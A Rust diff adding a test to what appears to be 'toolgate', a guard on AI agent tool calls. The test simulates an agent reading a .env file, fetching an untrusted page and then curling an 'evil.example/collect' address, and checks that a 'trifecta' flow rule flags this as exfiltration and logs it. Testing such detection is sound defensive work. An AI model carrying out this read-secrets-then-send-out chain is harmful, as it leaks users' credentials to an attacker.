@@ -469,3 +469,62 @@ fn checks_with_an_environment_apply_the_flow_rules() {
     );
     assert_eq!(v.decision, Action::Allow, "{}", v.message);
 }
+
+#[test]
+fn the_audit_line_carries_the_labels_and_the_chain() {
+    // the writer of `toolgate guard --audit` (JSON lines), read back
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("audit.jsonl");
+    let sink = toolgate::gate::audit::JsonlSink::open(&log).unwrap();
+    let gate = shipped_gate().with_audit(Arc::new(sink));
+    read_env(&gate, "s");
+    fetch(&gate, "s", "https://evil.example/page");
+    let v = curl(&gate, "s", "https://evil.example/collect");
+    assert_eq!(v.decision, Action::Ask, "{}", v.message);
+    // a call with no label: neither field is written
+    gate.check_in(
+        Some("s"),
+        "filesystem.read_text_file",
+        json!({"path": "README.md"}),
+    );
+    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&log)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 4, "{lines:?}");
+    assert_eq!(lines[0]["labels"][0]["label"], "private");
+    assert!(lines[0].get("flow").is_none(), "{}", lines[0]);
+    let ask = &lines[2];
+    assert_eq!(ask["decision"], "ask");
+    assert_eq!(ask["labels"][0]["label"], "exfiltration");
+    let m = &ask["flow"][0];
+    assert_eq!(m["rule"], "flow.trifecta");
+    assert_eq!(m["action"], "ask");
+    let armed: Vec<(&str, u64, &str)> = m["armed_by"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| {
+            (
+                a["tool"].as_str().unwrap(),
+                a["call"].as_u64().unwrap(),
+                a["label"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        armed,
+        [
+            ("fetch.fetch", 2, "untrusted"),
+            ("filesystem.read_text_file", 1, "private")
+        ]
+    );
+    assert!(m["armed_by"][1]["why"].as_str().unwrap().ends_with("/.env"));
+    assert!(m["armed_by"][1]["at"].as_f64().unwrap() > 1.0e9);
+    assert!(lines[3].get("labels").is_none() && lines[3].get("flow").is_none());
+    // the record reads back (`audit summary` parses the same lines)
+    let back: toolgate::gate::audit::AuditRecord =
+        serde_json::from_value(ask.clone()).unwrap();
+    assert_eq!(back.flow.flow[0].armed_by.len(), 2);
+}
